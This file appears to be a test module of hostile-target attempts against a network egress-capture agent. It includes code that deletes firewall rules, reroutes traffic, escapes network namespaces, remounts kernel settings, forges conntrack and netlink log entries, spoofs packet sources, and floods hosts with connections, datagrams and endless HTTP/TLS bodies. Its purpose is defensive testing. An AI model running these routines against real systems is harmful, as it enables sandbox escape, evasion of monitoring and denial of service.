"""What a hostile target tries; `test_escape` puts it into a container, as root with NET_ADMIN and NET_RAW.

Run as `attempts.py ATTEMPT NONCE`. An attempt changes something, or finds a way around what captures; then the nonce is
sent in every way there is. What came of the attempt is printed. Standard library only, with the agent's own netlink.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import select
import signal
import socket
import ssl
import struct
import sys
from collections.abc import Callable

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from agent import capture, netlink, nftables  # type: ignore[import-not-found]

from tests.hostile.means import (
    BLACKHOLE,
    CREATE,
    DELADDR,
    DELLINK,
    DELROUTE,
    DELRULE,
    NET_DIAG,
    NET_FILTER,
    NET_ROUTE,
    NET_XFRM,
    NEWADDR,
    NEWLINK,
    NEWNET,
    NEWQDISC,
    NEWROUTE,
    NEWRULE,
    NEWUSER,
    OWN4,
    OWN6,
    REPLACE,
    SECONDS,
    TO4,
    TO6,
    TRICK_PORT,
    UDP_PORT,
    UNREACHABLE,
    address,
    ask,
    beacon,
    datagram,
    device,
    flow,
    ipv4,
    link,
    marks_of_datagrams,
    named,
    new_connection,
    nft,
    over,
    route,
    send_marked,
    send_udp,
    unshare,
)

ATTEMPTS: dict[str, Callable[[bytes], object]] = {}


def attempt(action: Callable[[bytes], object]) -> Callable[[bytes], object]:
    ATTEMPTS[action.__name__.replace("_", " ")] = action
    return action


# Our rules.


@attempt
def deletes_the_rules(nonce: bytes) -> None:
    nft(2, netlink.attribute(1, b"egress\0"))


@attempt
def deletes_the_rules_for_frames(nonce: bytes) -> None:
    nft(2, netlink.attribute(1, b"egress\0"), nftables.NFPROTO_NETDEV)


@attempt
def deletes_every_rule_there_is(nonce: bytes) -> None:
    nft(2, b"", nftables.NFPROTO_UNSPEC)


@attempt
def empties_a_chain(nonce: bytes) -> None:
    nft(8, netlink.attribute(1, b"egress\0") + netlink.attribute(2, b"record\0"))


@attempt
def accepts_before_the_rules(nonce: bytes) -> None:
    rule = nftables._rule("record", "", "", nftables._ACCEPT)
    ask(NET_FILTER, rule.kind, rule.body, CREATE)  # without APPEND it comes first


@attempt
def lets_its_datagrams_out_by_a_rule_of_its_own(nonce: bytes) -> None:
    rule = nftables._rule("datagrams", "", "", nftables.dial_verdict("let_out"))
    ask(NET_FILTER, rule.kind, rule.body, CREATE)


@attempt
def lays_a_table_of_its_own_before_ours(nonce: bytes) -> None:
    nft(0, netlink.attribute(1, b"mine\0"), flags=CREATE)


# Interfaces, addresses, routes.


@attempt
def deletes_the_interface(nonce: bytes) -> None:
    ask(NET_ROUTE, DELLINK, capture._interface(device("eth0")))


@attempt
def shuts_loopback_down(nonce: bytes) -> None:
    ask(NET_ROUTE, NEWLINK, capture._interface(device("lo"), 0, 1))


@attempt
def shuts_the_peer_down(nonce: bytes) -> None:
    ask(NET_ROUTE, NEWLINK, capture._interface(device("egress0"), 0, 1))


@attempt
def deletes_an_address(nonce: bytes) -> None:
    address(DELADDR, "eth0", OWN4, 24)


@attempt
def deletes_the_default_route(nonce: bytes) -> None:
    route(DELROUTE, "0.0.0.0", 0, "eth0")


@attempt
def replaces_the_default_route(nonce: bytes) -> None:
    route(NEWROUTE, "0.0.0.0", 0, type=BLACKHOLE, flags=CREATE | REPLACE)


@attempt
def puts_a_default_route_before_ours(nonce: bytes) -> None:
    route(NEWROUTE, "0.0.0.0", 0, type=UNREACHABLE)


@attempt
def has_half_of_the_world_end_in_a_black_hole(nonce: bytes) -> None:
    route(NEWROUTE, "128.0.0.0", 1, type=BLACKHOLE)


@attempt
def takes_loopback_out_of_the_routes(nonce: bytes) -> None:
    for to, prefix in (("127.0.0.0", 8), ("127.0.0.1", 32), ("::1", 128)):
        family = socket.AF_INET6 if ":" in to else socket.AF_INET
        body = struct.pack("=BBBBBBBBI", family, prefix, 0, 0, 255, 0, 255, 2, 0)
        body += netlink.attribute(1, socket.inet_pton(family, to))
        ask(NET_ROUTE, DELROUTE, body)


@attempt
def leads_loopback_elsewhere(nonce: bytes) -> None:
    route(NEWROUTE, "127.0.0.1", 32, "eth0", table=255, flags=CREATE | REPLACE)


@attempt
def has_a_policy_rule_of_its_own(nonce: bytes) -> None:
    action = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 0, 0, 0, BLACKHOLE, 0)
    ask(NET_ROUTE, NEWRULE, action + netlink.attribute(6, struct.pack("=I", 1)), CREATE)


@attempt
def deletes_a_policy_rule(nonce: bytes) -> None:
    body = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 200, 0, 0, 1, 0)
    ask(NET_ROUTE, DELRULE, body)


@attempt
def controls_the_traffic_of_loopback(nonce: bytes) -> None:
    """A queueing discipline that filters can be hung into (tc-bpf(8), `clsact`)."""
    head = struct.pack("=BxxxiIII", 0, device("lo"), 0xFFFF0000, 0xFFFFFFF1, 0)
    ask(NET_ROUTE, NEWQDISC, head + netlink.attribute(1, b"clsact\0"), CREATE)


@attempt
def destroys_the_listeners(nonce: bytes) -> None:
    """SOCK_DESTROY (sock_diag(7)) of everything that listens."""
    for family, ip in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for port in listening(family):
            packed = socket.inet_pton(family, ip).ljust(16, b"\0")
            ident = (
                struct.pack("!HH", port, 0)
                + packed
                + bytes(16)
                + struct.pack("=III", 0, ~0 & 0xFFFFFFFF, ~0 & 0xFFFFFFFF)
            )
            ask(NET_DIAG, 21, struct.pack("=BBBxI", family, 6, 0, 1 << 10) + ident)


def listening(family: int) -> list[int]:
    name = "tcp6" if family == socket.AF_INET6 else "tcp"
    with open(f"/proc/net/{name}") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    return [int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"]


@attempt
def makes_the_kernel_forget_connections(nonce: bytes) -> None:
    ask(NET_FILTER, 1 << 8 | 2, struct.pack("!BBH", 0, 0, 0))  # IPCTNL_MSG_CT_DELETE, all of them


@attempt
def blocks_by_ipsec_policy(nonce: bytes) -> None:
    """NETLINK_XFRM, XFRM_MSG_NEWPOLICY."""
    for family in (socket.AF_INET, socket.AF_INET6):
        selector = bytes(32) + bytes(8) + struct.pack("=HBBBxxxiI", family, 0, 0, 0, 0, 0)
        limits = struct.pack("=4Q", *[2**64 - 1] * 4) + bytes(32)
        body = selector + limits + bytes(32) + struct.pack("=IIBBBBxxxx", 1, 0, 1, 1, 0, 0)
        ask(NET_XFRM, 0x13, body, CREATE)


@attempt
def drops_by_legacy_iptables(nonce: bytes) -> None:
    """IPT_SO_SET_REPLACE of the table `raw`, whose OUTPUT then drops all (linux/netfilter_ipv4/ip_tables.h)."""

    def entry(target: bytes) -> bytes:
        return bytes(84) + struct.pack("=IHHI", 0, 112, 112 + len(target), 0) + bytes(16) + target

    def verdict(number: int) -> bytes:
        return struct.pack("=H30si4x", 40, b"", number)

    error = struct.pack("=H30s32s", 64, b"ERROR", b"ERROR")
    entries = entry(verdict(-2)) + entry(verdict(-1)) + entry(error)
    hooks, counters = (0, 0, 0, 152, 0), ctypes.create_string_buffer(48)
    numbers = (9, 3, len(entries), *hooks, *hooks, 3, ctypes.addressof(counters))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    info, size = ctypes.create_string_buffer(b"raw", 84), ctypes.c_int(84)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.getsockopt(sock.fileno(), 0, 64, info, ctypes.byref(size)):  # makes the table
        raise OSError(ctypes.get_errno(), "no legacy iptables")
    sock.setsockopt(0, 64, struct.pack("=32sIII5I5IIQ", b"raw", *numbers) + entries)


@attempt
def sends_packets_that_are_none(nonce: bytes) -> None:
    """Raw sockets write headers of their own: of no version of IP that there is."""
    with (
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock,
        contextlib.suppress(OSError),
    ):
        sock.sendto(b"\x75" + ipv4(17, datagram(nonce))[1:], (TO4, 0))
    with (
        socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock,
        contextlib.suppress(OSError),
    ):
        sock.sendto(b"\x70" + bytes(39) + nonce, (TO6, 0))


# Interfaces of its own.


@attempt
def makes_a_pair_of_interfaces(nonce: bytes) -> None:
    link(
        "mine0",
        b"veth",
        data=netlink.nest(1, capture._interface() + netlink.attribute(3, b"mine1\0")),
    )
    over("mine0")


@attempt
def makes_a_macvlan_on_our_interface(nonce: bytes) -> None:
    on = netlink.attribute(5, struct.pack("=i", device("eth0")))
    link("mine0", b"macvlan", on, data=netlink.attribute(1, struct.pack("=I", 4)))
    over("mine0")


@attempt
def makes_an_ipvlan_on_our_interface(nonce: bytes) -> None:
    link("mine0", b"ipvlan", netlink.attribute(5, struct.pack("=i", device("eth0"))))
    over("mine0")


@attempt
def makes_a_vlan_on_our_interface(nonce: bytes) -> None:
    on = netlink.attribute(5, struct.pack("=i", device("eth0")))
    link("mine0", b"vlan", on, data=netlink.attribute(1, struct.pack("=H", 7)))
    over("mine0")


@attempt
def makes_a_bridge_of_our_interface_and_its_own(nonce: bytes) -> None:
    link("mine0", b"bridge")
    link(
        "mine1",
        b"veth",
        data=netlink.nest(1, capture._interface() + netlink.attribute(3, b"mine2\0")),
    )
    for name in ("egress0", "mine1"):
        master = netlink.attribute(10, struct.pack("=i", device("mine0")))
        ask(NET_ROUTE, NEWLINK, capture._interface(device(name)) + master)
    over("mine0")


@attempt
def makes_a_tunnel_of_vxlan(nonce: bytes) -> None:
    data = netlink.attribute(1, struct.pack("=I", 7)) + netlink.attribute(2, socket.inet_aton(TO4))
    link("mine0", b"vxlan", data=data + netlink.attribute(15, struct.pack("!H", 4789)))
    over("mine0")


@attempt
def makes_a_tunnel_of_gre(nonce: bytes) -> None:
    ends = netlink.attribute(6, socket.inet_aton(OWN4)) + netlink.attribute(
        7, socket.inet_aton(TO4)
    )
    link("mine0", b"gre", data=ends)
    over("mine0")


@attempt
def makes_a_tun_device(nonce: bytes) -> None:
    try:
        tun = os.open("/dev/net/tun", os.O_RDWR)
    except FileNotFoundError:
        os.makedirs("/dev/net", exist_ok=True)
        os.mknod("/dev/net/tun", 0o600 | 0o020000, os.makedev(10, 200))
        tun = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH22x", b"mine0", 1 | 0x1000))  # TUNSETIFF
    ask(NET_ROUTE, NEWLINK, capture._interface(device("mine0"), 1, 1))
    over("mine0")


@attempt
def takes_the_address_that_it_dials(nonce: bytes) -> None:
    address(NEWADDR, "eth0", TO4, 32)
    address(NEWADDR, "eth0", TO6, 128)


@attempt
def makes_an_address_for_its_neighbour(nonce: bytes) -> None:
    """RTM_NEWNEIGH: where frames for the destination go."""
    for index in (device("eth0"), device("egress0")):
        body = struct.pack("=BxxxiHBB", socket.AF_INET, index, 0x80, 0, 0)
        body += netlink.attribute(1, socket.inet_aton(TO4)) + netlink.attribute(2, b"\2" * 6)
        ask(NET_ROUTE, 28, body, CREATE)


# Other namespaces.


@attempt
def makes_a_network_namespace(nonce: bytes) -> None:
    unshare(NEWNET)


@attempt
def makes_a_user_namespace(nonce: bytes) -> None:
    unshare(NEWUSER | NEWNET)


@attempt
def moves_our_interface_into_a_namespace_of_its_own(nonce: bytes) -> None:
    home = os.open("/proc/self/ns/net", os.O_RDONLY)
    unshare(NEWNET)
    away = os.open("/proc/self/ns/net", os.O_RDONLY)
    ctypes.CDLL(None).setns(home, NEWNET)
    body = capture._interface(device("eth0")) + netlink.attribute(28, struct.pack("=i", away))
    ask(NET_ROUTE, NEWLINK, body)
    ctypes.CDLL(None).setns(away, NEWNET)
    ask(NET_ROUTE, NEWLINK, capture._interface(device("eth0"), 1, 1))
    over("eth0")


@attempt
def enters_every_namespace_that_it_sees(nonce: bytes) -> str:
    mine, libc = os.stat("/proc/self/ns/net").st_ino, ctypes.CDLL(None)
    found = set()
    for process in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{process}/ns/net") as namespace:
            found.add(os.fstat(namespace.fileno()).st_ino)
            libc.setns(namespace.fileno(), 0)
    return f"others: {len(found - {mine})}"


@attempt
def reaches_for_its_machine(nonce: bytes) -> str:
    """By another /proc, by one that can be written, by the root of a file system, and by a namespace."""
    libc, root = ctypes.CDLL(None), struct.pack("IiII", 8, 1, 2, 0)  # FILEID_INO32_GEN
    tries: dict[str, Callable[[], int]] = {
        "proc": lambda: libc.mount(b"p", b"/mnt", b"proc", 0, None),
        "sys": lambda: libc.mount(None, b"/proc/sys", None, 32 | 4096, None),  # MS_REMOUNT, MS_BIND
        "root": lambda: libc.open_by_handle_at(os.open("/etc/hosts", os.O_RDONLY), root, 0),
        "namespace": lambda: libc.unshare(NEWNET),
    }
    return f"did: {', '.join(name for name, act in tries.items() if act() >= 0) or 'nothing'}"


# Sockets.


@attempt
def does_nothing(nonce: bytes) -> None:
    pass


@attempt
def routes_by_options_of_the_source(nonce: bytes) -> None:
    """Loose source routing (RFC 791) and a routing header (RFC 8200)."""
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        with socket.socket(socket.AF_INET, kind) as sock, contextlib.suppress(OSError):
            options = struct.pack("!BBB4sx", 131, 7, 4, socket.inet_aton("198.51.100.1"))
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
            sock.settimeout(SECONDS)
            sock.connect((TO4, TRICK_PORT))
            sock.send(b"\0" + nonce)
    hops = b"".join(socket.inet_pton(socket.AF_INET6, hop) for hop in (TO6, "2001:db8::1"))
    segments = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + hops  # RFC 8754
    padding = struct.pack("!BBBB4x", 0, 0, 1, 4)
    for headers in ({57: segments}, {54: padding, 57: segments}, {59: padding}, {54: padding}):
        with (
            socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock,
            contextlib.suppress(OSError),
        ):
            for option, value in headers.items():  # IPV6_HOPOPTS, IPV6_RTHDR, IPV6_DSTOPTS
                sock.setsockopt(socket.IPPROTO_IPV6, option, value)
            sock.settimeout(SECONDS)
            sock.connect((TO6, TRICK_PORT + sum(headers)))
            sock.send(b"\0" + nonce)


@attempt
def sends_extension_headers(nonce: bytes) -> None:
    payload = datagram(b"\0" + nonce)
    for first, header in ((0, b"\1\4\0\0\0\0"), (60, b"\1\4\0\0\0\0"), (43, b"\0\0\0\0\0\0")):
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
            head = struct.pack("!IHBB", 6 << 28, 8 + len(payload), first, 64)
            ends = socket.inet_pton(socket.AF_INET6, OWN6) + socket.inet_pton(socket.AF_INET6, TO6)
            with contextlib.suppress(OSError):
                sock.sendto(head + ends + b"\x11\0" + header + payload, (TO6, 0))


@attempt
def sends_with_a_false_source(nonce: bytes) -> None:
    with (
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock,
        contextlib.suppress(OSError),
    ):
        sock.sendto(ipv4(17, datagram(b"\0" + nonce), source="192.0.2.77"), (TO4, 0))
    for option in (15, 19):  # IP_FREEBIND, IP_TRANSPARENT
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, contextlib.suppress(OSError):
            sock.setsockopt(socket.IPPROTO_IP, option, 1)
            sock.bind(("192.0.2.77", 0))
            sock.sendto(b"\0" + nonce, (TO4, TRICK_PORT))


@attempt
def sends_to_everybody(nonce: bytes) -> None:
    for to in ("255.255.255.255", "10.213.0.255", "224.0.0.251", "239.255.255.250"):
        with contextlib.suppress(OSError):
            send_udp(socket.AF_INET, to, b"\0" + nonce, TRICK_PORT)
    for name in ("eth0", "egress0"):
        for to in ("ff02::1", "ff05::2"):
            with contextlib.suppress(OSError):
                send_udp(socket.AF_INET6, f"{to}%{name}", b"\0" + nonce, TRICK_PORT)


@attempt
def binds_to_each_interface(nonce: bytes) -> None:
    for _, name in socket.if_nameindex():
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            with socket.socket(socket.AF_INET, kind) as sock, contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode())
                sock.settimeout(SECONDS)
                sock.connect((TO4, TRICK_PORT))
                sock.send(b"\0" + nonce)


@attempt
def marks_its_packets(nonce: bytes) -> None:
    for mark in (1, 0xC8, 0xFFFFFFFF):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            with socket.socket(socket.AF_INET, kind) as sock, contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, 36, struct.pack("=I", mark))
                sock.settimeout(SECONDS)
                sock.connect((TO4, TRICK_PORT))
                sock.send(b"\0" + nonce)


@attempt
def sends_with_the_marks_of_datagrams(nonce: bytes) -> str:
    """The marks of what is let out and of what answers it, on packets and frames that no route has let out."""
    for mark in (marks := marks_of_datagrams()):
        send_marked(mark, nonce)
    return f"marks: {len(marks)}"


@attempt
def makes_its_interface_narrow(nonce: bytes) -> None:
    """What a route lets out leaves in fragments then."""
    for size in (1500, 65535):
        mtu = netlink.attribute(4, struct.pack("=I", size))
        ask(NET_ROUTE, NEWLINK, capture._interface(device("eth0")) + mtu)
        for family, to in ((socket.AF_INET, TO4), (socket.AF_INET6, TO6)):
            send_udp(family, to, (b"\0" + nonce + b" of %d" % size).ljust(5000, b"x"), TRICK_PORT)


@attempt
def speaks_in_other_families(nonce: bytes) -> str:
    """Every address family but those of IP, unix, netlink and packet sockets; a hypervisor over AF_VSOCK."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(SECONDS)
        sock.connect((2, UDP_PORT))
        sock.send(b"\0" + nonce)
        return "vsock"
    return "no vsock"


@attempt
def writes_settings_of_the_kernel(nonce: bytes) -> str:
    """sysctl(8): /proc/sys is read-only, unless it can be mounted again."""
    ctypes.CDLL(None).mount(b"proc", b"/proc/sys", None, 0x20 | 0x1000, None)  # MS_REMOUNT, MS_BIND
    written = []
    for name, value in SETTINGS.items():
        with contextlib.suppress(OSError), open(f"/proc/sys/net/{name}", "w") as file:
            file.write(value)
            file.flush()
            written.append(name)
    return f"written: {', '.join(written)}"


SETTINGS = {
    "ipv4/ip_forward": "1",
    "ipv4/conf/all/route_localnet": "1",
    "ipv4/conf/all/rp_filter": "0",
    "ipv4/conf/all/accept_source_route": "1",
    "ipv6/conf/all/forwarding": "1",
}


# The kernel's log and its memory of connections.


@attempt
def takes_over_the_log_of_packets(nonce: bytes) -> str:
    """NFULNL_CFG_CMD_BIND, UNBIND, PF_BIND and PF_UNBIND of our group."""
    said = []
    for command in (1, 2, 3, 4):
        for family in (socket.AF_INET, socket.AF_INET6):
            body = struct.pack("!BBH", family, 0, nftables.LOG_GROUP) + netlink.attribute(
                1, bytes([command])
            )
            try:
                ask(NET_FILTER, 4 << 8 | 1, body)
                said.append("done")
            except OSError as error:
                said.append(named(error))
    return " ".join(said)


@attempt
def writes_into_the_log_of_packets(nonce: bytes) -> str:
    """A packet that was never sent, to every netlink socket of ours (netlink(7) lets CAP_NET_ADMIN)."""
    forged = ipv4(17, datagram(b"\0forged"), to="198.51.100.66")
    body = bytes(4) + netlink.attribute(9, forged)
    event = netlink.message(33, 0, bytes(12))
    with open("/proc/net/netlink") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    refused = set()
    for family, message in ((NET_FILTER, netlink.message(4 << 8, 0, body)), (NET_ROUTE, event)):
        ports = [
            int(row[2])
            for row in rows
            if int(row[1]) == family and int(row[2]) and (family or int(row[3], 16))
        ]
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as sock:
            for port in ports:
                try:
                    sock.sendto(message, (port, 0))
                    refused.add("done")
                except OSError as error:
                    refused.add(named(error))
    return " ".join(sorted(refused))


@attempt
def invents_a_connection_that_is_redirected(nonce: bytes) -> None:
    """ctnetlink: datagrams of a flow whose destination is translated, as ours are that are accepted."""
    timeout = netlink.attribute(7, struct.pack("!I", 60))
    for translated in ("198.51.100.66", "127.0.0.1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((OWN4, 0))
            port = sock.getsockname()[1]
            new_connection(17, (OWN4, port, TO4, TRICK_PORT), (translated, TRICK_PORT), timeout)
            with contextlib.suppress(OSError):
                sock.sendto(b"\0" + nonce, (TO4, TRICK_PORT))


@attempt
def claims_to_have_dialled_another(nonce: bytes) -> None:
    """ctnetlink: of a connection to the listener itself the kernel is told that it was dialled as another host's."""
    port = listening(socket.AF_INET)[0]
    sock = socket.create_connection(("127.0.0.1", port))
    client = sock.getsockname()[1]
    body = struct.pack("!BBH", socket.AF_INET, 0, 0)
    dialled = ("127.0.0.1", client, "127.0.0.1", port)
    ask(NET_FILTER, 1 << 8 | 2, body + netlink.nest(1, *flow(6, dialled)))
    state = netlink.nest(4, netlink.nest(1, netlink.attribute(1, b"\3")))  # established
    more = netlink.attribute(7, struct.pack("!I", 60)) + state
    reply = ("127.0.0.1", port, "127.0.0.1", client)
    new_connection(6, ("127.0.0.1", client, "198.51.100.66", 443), ("", 0), more, reply)


# Floods.


@attempt
def holds_connections(nonce: bytes) -> None:
    """Twenty thousand, of two processes; those that are accepted within the head of a request that never ends."""
    os.fork()
    poller, socks = select.poll(), {}
    for number in range(10_000):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((f"203.0.113.{number % 200}", TRICK_PORT))
        poller.register(sock, select.POLLOUT)
        socks[sock.fileno()] = sock
    held = 0
    while ready := poller.poll(2000):
        for descriptor, _ in ready:
            poller.unregister(descriptor)
            held += bool(attempted(socks[descriptor].send, b"GET / HTTP/1.1\r\nX-Slow: "))
    print("held", held, flush=True)
    signal.pause()


@attempt
def waits_on_connections(nonce: bytes) -> None:
    """A thousand, without a word."""
    socks = [socket.create_connection((TO4, 80)) for _ in range(1000)]
    print("held", len(socks), flush=True)
    signal.pause()


def attempted(send: Callable[[bytes], int], data: bytes) -> int:
    with contextlib.suppress(OSError):
        return send(data)
    return 0


@attempt
def floods_datagrams(nonce: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(12_000):
            with contextlib.suppress(OSError):
                sock.sendto(b"%d" % number, (TO4, TRICK_PORT + number % 1000))


@attempt
def floods_a_route_of_datagrams(nonce: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((TO4, TRICK_PORT))
        for number in range(100_000):
            sock.send(b"%d" % number)


@attempt
def asks_for_10000_names(nonce: bytes) -> None:
    question = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("192.0.2.53", 53))
        sock.settimeout(20)
        for number in range(0, 10_000, 100):
            for label in range(number, number + 100):
                name = b"n%d" % label
                sock.send(question + bytes([len(name)]) + name + b"\4test\0\0\1\0\1")
            for _ in range(100):
                sock.recv(512)


@attempt
def sends_heads_hellos_and_bodies_without_end(nonce: bytes) -> str:
    record = b"\x16\3\1\x40\0" + bytes(0x4000)
    hello = record[:5] + b"\1\xff\xff\xff" + record[9:]
    chunk = b"8000\r\n" + bytes(0x8000) + b"\r\n"
    sent = {}
    for name, first, more in (
        ("head", b"GET / HTTP/1.1\r\nHost: api.test\r\n", b"X-More: " + b"x" * 8000 + b"\r\n"),
        ("line", b"GET /", b"x" * 8000),
        ("hello", hello, record),
        ("body", b"PUT / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n", chunk),
        ("raw", b"\0", bytes(0x8000)),
    ):
        port = 7001 if name == "raw" else 80
        with socket.create_connection((TO4, port)) as sock, contextlib.suppress(OSError):
            sock.settimeout(20)
            sock.sendall(first)
            sent[name] = len(first)
            while sent[name] < 64 << 20:
                sock.sendall(more)
                sent[name] += len(more)
    return str(sent)


UPGRADE = (
    b"GET /w HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
MAIL = (b"EHLO x\r\n", b"MAIL FROM:<a@x.test>\r\n", b"RCPT TO:<b@x.test>\r\n", b"DATA\r\n")


def http2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack("!BBI", kind, flags, stream) + payload


@attempt
def leaves_messages_mails_and_bodies_unfinished(nonce: bytes) -> str:
    pairs = (
        (b":method", b"PUT"),
        (b":scheme", b"http"),
        (b":authority", b"api.test"),
        (b":path", b"/s"),
    )
    head = b"".join(b"\0%c%b%c%b" % (len(name), name, len(value), value) for name, value in pairs)
    data = bytes(16384)
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(4, 0, 0, b"")
    bodies = [
        http2_frame(1, 4, number, head) + 60 * http2_frame(0, 0, number, data)
        for number in range(1, 33, 2)
    ]
    piece = b"\0\xfe" + struct.pack("!H", len(data)) + bytes(4) + data  # masked by zeros
    kinds = (
        (80, (UPGRADE,), [b"\2" + piece[1:], *[piece] * 999]),
        (7001, (b"", *MAIL), [b"x" * 16382 + b"\r\n"] * 1000),
        (80, (preface,), bodies),
    )
    sent, held = [0, 0, 0], []
    for _ in range(8):
        for at, (port, first, more) in enumerate(kinds):
            sock = socket.create_connection((TO4, port))
            sock.settimeout(2)
            held.append(sock)
            with contextlib.suppress(OSError):
                for line in first:
                    sock.sendall(line)
                    sock.recv(65536)
                for each in more:
                    sock.sendall(each)
                    sent[at] += len(each)
    return str(sent)


@attempt
def says_300_server_names(nonce: bytes) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for number in range(300):
        with (
            socket.create_connection((TO4, 443)) as sock,
            contextlib.suppress(OSError),
            context.wrap_socket(sock, server_hostname=f"n{number}.test"),
        ):
            pass


@attempt
def changes_the_rules_over_and_over(nonce: bytes) -> None:
    for number in range(2_000):
        nft(0, netlink.attribute(1, b"t%d\0" % number), flags=CREATE)


def main(name: str, nonce: bytes) -> None:
    try:
        came = ATTEMPTS[name](nonce)
    except OSError as error:
        came = named(error)
    print("done" if came is None else came, flush=True)
    beacon(b"\0" + nonce)  # begins no request, so that nobody waits for the rest of one
    with contextlib.suppress(OSError):  # for the next one
        ask(NET_ROUTE, DELLINK, capture._interface(device("mine0")))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2].encode())
